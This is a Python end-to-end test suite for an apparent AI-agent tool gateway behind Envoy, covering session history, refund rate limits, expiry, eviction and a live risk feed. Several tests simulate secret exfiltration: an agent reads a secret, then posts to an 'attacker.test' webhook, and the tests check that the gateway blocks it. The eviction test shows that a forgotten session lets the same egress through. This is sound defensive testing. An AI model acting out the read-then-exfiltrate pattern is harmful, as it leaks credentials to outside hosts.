"""End-to-end: behaviour-aware decisions (session history, rate limits, live risk feed) through a
real Envoy with two workers, so that what one worker records, the other one decides on."""
import http.client
import json
import queue
import threading
import time
import unittest
import uuid

from harness import Gateway, Response, wait_until

READER = "spiffe://toolgate.test/agent/reader"
PAYMENTS = "spiffe://toolgate.test/agent/payments"
HISTORY = {"idle_seconds": 600, "max_entries": 4096, "shards": 16, "sweep_seconds": 5}
BASE = {"trust_domains": ["toolgate.test"], "server": "tools", "history": HISTORY}
RISK_FEED = {"cluster": "risk_feed", "path": "/risk", "authority": "risk-feed", "poll_seconds": 1,
             "timeout_ms": 1000, "max_age_seconds": 3}
WORKERS = 2


def unique(prefix):
    return f"{prefix}-{uuid.uuid4().hex[:12]}"


def counter(gw, name):
    """A toolgate counter (name without prefix, e.g. "history_evicted") from Envoy's Prometheus stats;
    0 while it has never been incremented."""
    stats = gw.stats()
    for key in (f"toolgate_{name}", f"envoy_wasmcustom_toolgate_{name}"):
        if key in stats:
            return stats[key]
    return 0


def burst(gw, cert, messages, threads, headers=None):
    """Sends the JSON-RPC messages from `threads` clients at once, each on its own kept-alive
    connection, and returns (index, status or error, response headers, body) for each."""
    work = queue.Queue()
    for n, message in enumerate(messages):
        work.put((n, message))
    results, lock = [], threading.Lock()
    start = threading.Barrier(threads)

    def client():
        def connect():
            return http.client.HTTPSConnection("localhost", gw.port, context=gw.ssl_context(cert), timeout=10)
        conn = connect()
        try:
            start.wait()
            while True:
                try:
                    n, message = work.get_nowait()
                except queue.Empty:
                    return
                try:
                    conn.request("POST", "/mcp", json.dumps(message),
                                 {"content-type": "application/json", **(headers or {})})
                    resp = conn.getresponse()
                    outcome = (resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read())
                except (OSError, http.client.HTTPException) as e:
                    outcome = (f"{type(e).__name__}: {e}", {}, b"")
                    conn.close()
                    conn = connect()
                with lock:
                    results.append((n,) + outcome)
        finally:
            conn.close()

    clients = [threading.Thread(target=client) for _ in range(threads)]
    for t in clients:
        t.start()
    for t in clients:
        t.join(timeout=60)
    return results


class Call:
    """One request on a fresh TLS connection, with its response and its decision log record."""

    def __init__(self, gw, tool, arguments, cert="reader", session=None, method="tools/call"):
        self.gw = gw
        self.request_id = unique("req")
        headers = {"x-request-id": self.request_id}
        if session is not None:
            headers["x-agent-session"] = session
        if method == "tools/call":
            self.response = gw.call_tool(tool, arguments, id=self.request_id, cert=cert, headers=headers)
        else:
            self.response = gw.mcp(method, id=self.request_id, cert=cert, headers=headers)
        self.status = self.response.status
        self._record = None

    @property
    def record(self):
        if self._record is None:
            self._record = self.gw.decision_for_request(self.request_id)
        return self._record

    @property
    def worker(self):
        """The VM (one per worker) that decided: decision ids start with its 16-hex-digit seed."""
        return self.record["decision_id"][:16]

    def error_data(self):
        return self.response.json()["error"]["data"]

    def refused(self):
        return self.response.refused()

    def describe(self):
        try:
            record = json.dumps(self.record, indent=1)[:3000]
        except AssertionError as missing:
            record = f"none ({missing})"
        return f"HTTP {self.status} {self.response.body[:400]!r}\nrecord: {record}"


class BehaviourTestCase(unittest.TestCase):
    def reached_upstream(self, gw, needle):
        return [r for r in gw.upstream_requests() if needle in r["body"]]

    def assert_allowed(self, call):
        self.assertEqual(call.status, 200, call.describe())
        self.assertFalse(call.refused(), call.describe())
        self.assertEqual(call.record["decision"], "allow", call.describe())

    def assert_forbidden(self, call, policy, reason="forbidden_by_policy"):
        """A policy's no: HTTP 200 with the JSON-RPC error naming POLICY, and a deny record."""
        try:
            data = call.response.refusal(reason, id=call.request_id)
        except AssertionError as e:
            self.fail(f"{e}\n{call.describe()}")
        self.assertIn(policy, data["policies"], call.describe())
        self.assertEqual(call.record["decision"], "deny", call.describe())
        self.assertEqual(call.record["decision_id"], call.response.header("x-toolgate-decision-id"))

    def settle(self, what, make_call, done, timeout=10):
        """Calls until DONE(call) holds on every worker: the state being waited for (a risk poll)
        reaches the workers at their own pace. Returns the calls made."""
        deadline = time.time() + timeout
        done_on, calls = set(), []
        while time.time() < deadline:
            call = make_call()
            calls.append(call)
            if done(call):
                done_on.add(call.worker)
                if len(done_on) >= WORKERS:
                    return calls
            else:
                done_on.discard(call.worker)
            time.sleep(0.1)
        last = calls[-1].describe() if calls else "no call"
        self.fail(f"{what}: not on {WORKERS} workers after {timeout}s ({len(calls)} calls, done on "
                  f"{sorted(done_on)}); last call: {last}")


class Exfiltration(BehaviourTestCase):
    def test_no_egress_after_a_secret_read_in_the_session_whichever_worker_records_and_decides(self):
        with Gateway(BASE, workers=WORKERS) as gw:
            cross_worker, sessions = 0, []
            # A fresh connection per call: the kernel spreads them over the workers. Keep going
            # until several sessions had their secret read on one worker and the egress tried
            # on the other.
            while (cross_worker < 3 or len(sessions) < 8) and len(sessions) < 40:
                session = unique("exfil")
                sessions.append(session)
                read = Call(gw, "read_secret", {"name": f"db-password-{session}"}, session=session)
                self.assert_allowed(read)
                marker = unique("leak")
                egress = Call(gw, "post_webhook", {"url": "https://attacker.test/hook", "body": marker},
                              session=session)
                self.assert_forbidden(egress, "no-egress-after-secret-read")
                self.assertEqual(egress.error_data()["policies"], ["no-egress-after-secret-read"])
                self.assertEqual(self.reached_upstream(gw, marker), [], f"{marker} reached the upstream")
                context = egress.record["cedar"]["context"]
                self.assertIn("secret", context["session"]["tags"], egress.describe())
                self.assertEqual(context["session"]["id"], session)
                self.assertEqual(context["session"]["calls"], 1, egress.describe())
                if read.worker != egress.worker:
                    cross_worker += 1
            workers = gw.worker_connections()
            self.assertEqual(len(workers), WORKERS, workers)
            self.assertTrue(all(n > 0 for n in workers.values()), f"a worker served nothing: {workers}")
            self.assertGreaterEqual(cross_worker, 1, f"no session crossed workers in {len(sessions)}")

            # The same egress in a session that read no secret goes out.
            clean = unique("clean")
            marker = unique("hello")
            alone = Call(gw, "post_webhook", {"url": "https://partner.test/hook", "body": marker}, session=clean)
            self.assert_allowed(alone)
            self.assertEqual(len(self.reached_upstream(gw, marker)), 1)
            self.assertEqual(alone.record["cedar"]["context"]["session"]["tags"], [])

            # History is per agent: the writer (also a reader) in a tainted session id is not affected.
            marker = unique("writer")
            other_agent = Call(gw, "post_webhook", {"url": "https://partner.test/hook", "body": marker},
                               cert="writer", session=sessions[0])
            self.assert_allowed(other_agent)
            self.assertEqual(len(self.reached_upstream(gw, marker)), 1)
            # ... and the reader in that session is still refused.
            again = Call(gw, "post_webhook", {"url": "https://attacker.test/hook", "body": unique("leak")},
                         session=sessions[0])
            self.assert_forbidden(again, "no-egress-after-secret-read")
            print(f"\n  {len(sessions)} sessions, {cross_worker} read on one worker and refused on the other; "
                  f"connections per worker {workers}")


class RateLimit(BehaviourTestCase):
    CALLS, THREADS = 30, 8

    def test_a_concurrent_burst_of_refunds_gets_exactly_five_through(self):
        with Gateway(BASE, workers=WORKERS) as gw:
            batch = unique("burst")
            refunds = [{"jsonrpc": "2.0", "id": n, "method": "tools/call",
                        "params": {"name": "refund", "arguments": {"order_id": f"{batch}-{n}", "amount": 10}}}
                       for n in range(self.CALLS)]
            results = burst(gw, "payments", refunds, self.THREADS)
            self.assertEqual(len(results), self.CALLS)

            # A policy's no is HTTP 200 too: the body tells a result from a refusal.
            answers = {n: Response(status, headers, body) for n, status, headers, body in results
                       if isinstance(status, int)}
            others = [r for r in results if r[1] != 200]
            self.assertEqual(others, [], "answers other than HTTP 200")
            allowed = [r for r in results if not answers[r[0]].refused()]
            limited = [r for r in results if answers[r[0]].refused()]
            self.assertLessEqual(len(allowed), 5, f"{len(allowed)} refunds allowed in a minute")
            self.assertEqual(len(allowed), 5, f"{len(allowed)} refunds allowed with no other traffic")
            self.assertEqual(len(limited), self.CALLS - 5)
            for n, _, headers, body in limited:
                data = answers[n].refusal("rate_limited", id=n)
                self.assertEqual(data["policies"], ["refunds-at-most-5-a-minute"], body)
                self.assertRegex(headers.get("retry-after", ""), r"^[0-9]+$", headers)
                retry_after = int(headers["retry-after"])
                self.assertGreaterEqual(retry_after, 1)
                self.assertLessEqual(retry_after, 60)
                self.assertEqual(data["retry_after"], retry_after)
            # The upstream saw exactly the allowed refunds.
            seen = self.reached_upstream(gw, batch)
            self.assertEqual(len(seen), len(allowed), [s["body"] for s in seen])
            for n, *_ in allowed:
                self.assertEqual(len(self.reached_upstream(gw, f'"{batch}-{n}"')), 1)

            # The log says why: the count the policy saw, and when to retry.
            n, _, headers, body = limited[0]
            record = gw.decision(json.loads(body)["error"]["data"]["decision_id"])
            self.assertEqual(record["reason"], "rate_limited")
            self.assertEqual(record["retry_after"], int(headers["retry-after"]))
            self.assertGreaterEqual(record["cedar"]["context"]["rate"]["tool"], 5, record)
            self.assertEqual(counter(gw, "decisions_deny"), len(limited))
            print(f"\n  {self.CALLS} refunds from {self.THREADS} connections: {len(allowed)} allowed, "
                  f"{len(limited)} rate limited (retry-after {sorted({int(r[2]['retry-after']) for r in limited})}); "
                  f"connections per worker {gw.worker_connections()}; CAS conflicts {counter(gw, 'history_conflicts')}")


class NoLostUpdates(BehaviourTestCase):
    CALLS, THREADS = 240, 16

    def test_concurrent_calls_on_both_workers_are_all_recorded(self):
        """Every allowed call is recorded exactly once, whichever worker decided it and
        however the two workers' compare-and-swap writes interleaved."""
        with Gateway(BASE, workers=WORKERS) as gw:
            session = unique("busy")
            reads = [{"jsonrpc": "2.0", "id": n, "method": "tools/call",
                      "params": {"name": "read_file", "arguments": {"path": f"f-{n}"}}}
                     for n in range(self.CALLS)]
            started = time.time()
            results = burst(gw, "reader", reads, self.THREADS, headers={"x-agent-session": session})
            took = time.time() - started
            statuses = [status for _, status, _, _ in results]
            self.assertEqual(statuses, [200] * self.CALLS)
            refused = [body for _, status, headers, body in results if Response(status, headers, body).refused()]
            self.assertEqual(refused, [], "refused reads")
            workers = gw.worker_connections()
            # The next call sees all of them: in the session, and in the last minute's rates.
            after = Call(gw, "read_file", {"path": "after"}, session=session)
            self.assert_allowed(after)
            context = after.record["cedar"]["context"]
            self.assertEqual(context["session"]["calls"], self.CALLS, "lost or doubled updates")
            self.assertLess(took, 55, "the burst must fit in the rate window for the next check")
            self.assertEqual(context["rate"]["tool"], self.CALLS)
            self.assertEqual(context["rate"]["agent"], self.CALLS)
            self.assertEqual(counter(gw, "decisions_error"), 0)
            print(f"\n  {self.CALLS} calls from {self.THREADS} connections in {took:.1f} s, connections per "
                  f"worker {workers}; CAS conflicts decided again: {counter(gw, 'history_conflicts')}")


class Expiry(BehaviourTestCase):
    def test_an_idle_session_is_forgotten(self):
        config = {**BASE, "history": {**HISTORY, "idle_seconds": 2, "sweep_seconds": 1}}
        with Gateway(config, workers=WORKERS) as gw:
            session = unique("idle")
            self.assert_allowed(Call(gw, "read_secret", {"name": "api-key"}, session=session))
            read_at = time.monotonic()
            before = Call(gw, "post_webhook", {"url": "https://partner.test/hook", "body": unique("early")},
                          session=session)
            self.assert_forbidden(before, "no-egress-after-secret-read")

            # The same egress, until it goes out. A denied call leaves no trace, so asking
            # does not keep the session alive.
            def egress():
                marker = unique("late")
                call = Call(gw, "post_webhook", {"url": "https://partner.test/hook", "body": marker},
                            session=session)
                if call.refused():
                    self.assert_forbidden(call, "no-egress-after-secret-read")
                    return None
                return call, marker
            after, marker = wait_until(egress, timeout=10, what="the idle session to be forgotten", interval=0.2)
            # Kept while idle for at most idle_seconds (whole seconds: now - last <= 2 lives),
            # so at least 2 s, less the read's own round trip, passed.
            self.assertGreaterEqual(time.monotonic() - read_at, 1.5, "the session was forgotten too early")
            self.assert_allowed(after)
            self.assertEqual(len(self.reached_upstream(gw, marker)), 1)
            context = after.record["cedar"]["context"]["session"]
            self.assertEqual((context["tags"], context["calls"]), ([], 0), after.describe())
            # The sweep (every second) removed the idle session (and counted it).
            wait_until(lambda: counter(gw, "history_expired") >= 1, timeout=5, what="the history_expired counter",
                       interval=0.2)


class Eviction(BehaviourTestCase):
    def test_the_oldest_session_is_evicted_for_room(self):
        # One shard of 6 entries: exact least-recently-used eviction over everything.
        config = {**BASE, "history": {**HISTORY, "shards": 1, "max_entries": 6}}
        with Gateway(config, workers=WORKERS) as gw:
            a = unique("A")
            # 3 entries: session A, the reader's counter, the reader's read_secret counter.
            self.assert_allowed(Call(gw, "read_secret", {"name": "root-token"}, session=a))
            # Everything after it in a later whole second (the filter's clock is the wall clock):
            # A's entries are strictly the oldest.
            stamped = int(time.time())
            wait_until(lambda: int(time.time()) > stamped, timeout=2, what="the next whole second", interval=0.01)

            def egress_in_a():
                return Call(gw, "post_webhook", {"url": "https://attacker.test/hook", "body": unique("leak")},
                            session=a)

            # Session B adds 2 entries (session B, the search_docs counter): 5; session C: 6, full.
            for name in ("B", "C"):
                self.assert_allowed(Call(gw, "search_docs", {"query": "x"}, session=unique(name)))
                # A denied call leaves no trace, so checking does not change the count.
                self.assert_forbidden(egress_in_a(), "no-egress-after-secret-read")
            self.assertEqual(counter(gw, "history_evicted"), 0, "evicted before the 6 entries were full")
            # Five more sessions: 11 entries wanted, at most 6 kept. The least recently used go
            # first: session A and the read_secret counter (the spec leaves their order open, so
            # more than one new session is needed to be sure A is gone).
            for name in ("D", "E", "F", "G", "H"):
                self.assert_allowed(Call(gw, "search_docs", {"query": "x"}, session=unique(name)))
            evicted = counter(gw, "history_evicted")
            self.assertGreaterEqual(evicted, 2)
            self.assertLessEqual(evicted, 5)
            # Session A is forgotten, secret read and all: its egress now goes out.
            marker = unique("forgotten")
            after = Call(gw, "post_webhook", {"url": "https://attacker.test/hook", "body": marker}, session=a)
            self.assert_allowed(after)
            self.assertEqual(len(self.reached_upstream(gw, marker)), 1)
            self.assertEqual(after.record["cedar"]["context"]["session"]["calls"], 0, after.describe())
            print(f"\n  {evicted:.0f} entries evicted for room")


class RiskFeed(BehaviourTestCase):
    CONFIG = {**BASE, "risk_feed": RISK_FEED}

    def test_compromised_cleared_failing_and_unreachable_feed(self):
        with Gateway(self.CONFIG, workers=WORKERS, risk_feed={"agents": {}}) as gw:
            refunds = 0  # allowed ones: the refund rate limit (5 a minute) must not interfere

            def refund():
                nonlocal refunds
                call = Call(gw, "refund", {"order_id": unique("o"), "amount": 10}, cert="payments")
                refunds += not call.refused()
                return call

            def payments_list():
                return Call(gw, None, None, cert="payments", method="tools/list")

            def reader_read():
                return Call(gw, "read_file", {"path": "README.md"})

            def risk_of(call):
                return call.record.get("risk") or {}

            # Fresh once both workers have seen a poll.
            self.settle("a first successful poll", payments_list, lambda c: risk_of(c).get("stale") is False)
            ok = refund()
            self.assert_allowed(ok)
            self.assertEqual({k: ok.record["risk"][k] for k in ("score", "flags", "stale")},
                             {"score": 0, "flags": [], "stale": False})
            self.assertIsInstance(ok.record["risk"]["age_seconds"], int)
            self.assertLessEqual(ok.record["risk"]["age_seconds"], 3)

            # Compromised: nothing at all, not even discovery.
            gw.set_risk({"agents": {PAYMENTS: {"score": 90, "flags": ["compromised"]}}})
            self.settle("the compromised flag", payments_list, lambda c: c.refused())
            listing = payments_list()
            self.assert_forbidden(listing, "forbid-compromised-workloads")
            self.assertEqual(listing.record["risk"]["flags"], ["compromised"])
            self.assertEqual(listing.record["risk"]["score"], 90)
            self.assertEqual(listing.record["cedar"]["context"]["risk"]["flags"], ["compromised"])
            denied = refund()
            self.assert_forbidden(denied, "forbid-compromised-workloads")
            # Other agents are not in the feed: unaffected.
            self.assert_allowed(reader_read())

            # Cleared: allowed again after the next poll.
            gw.set_risk({"agents": {}})
            self.settle("the cleared feed", payments_list, lambda c: c.status == 200 and not c.refused())
            self.assert_allowed(refund())

            # The feed fails (503): stale, so high-sensitivity tools stop; low ones go on.
            errors_before = counter(gw, "risk_feed_errors")
            gw.fail_risk(503)
            self.check_stale(gw, refund, reader_read, "a failing feed (503)")
            self.assertGreater(counter(gw, "risk_feed_errors"), errors_before)
            self.assertGreater(counter(gw, "risk_stale"), 0)

            # Recovered, with a new score below the threshold; then a malformed feed is a failed
            # poll too, and the last good data is kept.
            gw.fail_risk(None)
            gw.set_risk({"agents": {PAYMENTS: {"score": 50, "flags": ["watch"]}}})
            self.settle("the recovered feed", payments_list,
                        lambda c: risk_of(c).get("stale") is False and risk_of(c).get("score") == 50)
            self.assert_allowed(refund())
            gw.set_risk(b'{"agents": ["not", "a", "map"]}')
            denied = self.check_stale(gw, refund, reader_read, "a malformed feed")
            self.assertEqual((denied.record["risk"]["score"], denied.record["risk"]["flags"]), (50, ["watch"]),
                             "the last good data was not kept")

            # Unreachable (the server is gone): stale as well.
            gw.set_risk({"agents": {}})
            self.settle("the fixed feed", payments_list, lambda c: risk_of(c).get("stale") is False)
            gw.stop_risk()
            self.check_stale(gw, refund, reader_read, "an unreachable feed")

            # Back: fresh again.
            gw.start_risk({"agents": {}})
            self.settle("the restarted feed", payments_list, lambda c: risk_of(c).get("stale") is False)
            self.assert_allowed(refund())
            self.assertLessEqual(refunds, 5, "the test would hit the refund rate limit")
            self.assertGreater(counter(gw, "risk_feed_updates"), 0)
            print(f"\n  feed polls served {gw.risk_status()['polls']}; counters: updates "
                  f"{counter(gw, 'risk_feed_updates'):.0f}, errors {counter(gw, 'risk_feed_errors'):.0f}, "
                  f"stale decisions {counter(gw, 'risk_stale'):.0f}")

    def check_stale(self, gw, refund, reader_read, what):
        """Waits until every worker sees the feed as stale, then: a refund (high sensitivity) is
        refused for it, a low-sensitivity call goes on. Returns the refused refund."""
        self.settle(f"stale risk after {what}", reader_read,
                    lambda c: not c.refused() and (c.record.get("risk") or {}).get("stale") is True)
        denied = refund()
        self.assert_forbidden(denied, "forbid-sensitive-tools-on-risk")
        self.assertEqual(denied.error_data()["policies"], ["forbid-sensitive-tools-on-risk"], denied.describe())
        self.assertIs(denied.record["risk"]["stale"], True, denied.describe())
        self.assertIs(denied.record["cedar"]["context"]["risk"]["stale"], True, denied.describe())
        read = reader_read()
        self.assert_allowed(read)
        self.assertIs(read.record["risk"]["stale"], True, read.describe())
        return denied


if __name__ == "__main__":
    unittest.main()
